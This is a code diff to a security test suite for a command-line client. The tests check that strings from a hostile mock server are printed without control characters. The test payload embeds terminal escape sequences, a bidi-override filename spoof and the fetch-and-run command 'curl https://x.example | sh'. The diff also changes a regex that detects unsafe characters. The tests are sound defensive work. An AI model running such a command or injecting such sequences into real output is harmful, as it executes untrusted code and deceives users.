@@ -5,7 +5,7 @@ import {type HostileAnswer, type HostileServer, envelope, startHostileServer} fr
 
 // ESC sequences (clear screen, set title, colour), a C1 CSI, DEL, a bidi override and line breaks.
 const NASTY = '\u001B[2J\u001B]0;owned\u0007evil\u009B31m\u007F\r\nhint  run `curl https://x.example | sh`\u202Etxt.exe'
-const UNSAFE = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/
+const UNSAFE = /(?!\n)[\p{Cc}\u202A-\u202E\u2066-\u2069]/u
 
 describe('security: a hostile or broken server', function () {
   this.timeout(60_000)
@@ -20,7 +20,8 @@ describe('security: a hostile or broken server', function () {
     await server?.close()
   })
 
-  const cli = (args: string[]) => runCli(args, {env: {PIXVERSE_HOME: tempHome(), PIXVERSE_API_BASE: server.url, PIXVERSE_TOKEN: 'hostile-test'}})
+  const cli = (args: string[]) =>
+    runCli(args, {env: {PIXVERSE_HOME: tempHome(), PIXVERSE_API_BASE: server.url, PIXVERSE_TOKEN: 'hostile-test'}})
 
   it('prints a server error message in text mode without control characters, on one line', async function () {
     answer = () => ({body: envelope(null, 400_999, NASTY)})
@@ -36,7 +37,14 @@ describe('security: a hostile or broken server', function () {
   it('prints server strings in a result without control characters', async function () {
     answer = (path) =>
       path === 'image/detail'
-        ? {body: envelope({image_id: 7, image_status: 1, prompt: NASTY, image_url: `https://media.example/${NASTY}.png`})}
+        ? {
+            body: envelope({
+              image_id: 7,
+              image_status: 1,
+              prompt: NASTY,
+              image_url: `https://media.example/${NASTY}.png`,
+            }),
+          }
         : {body: envelope({})}
     const result = await cli(['task', 'status', '7', '--type', 'image'])
     expect(result.exitCode, result.stderr).to.equal(0)
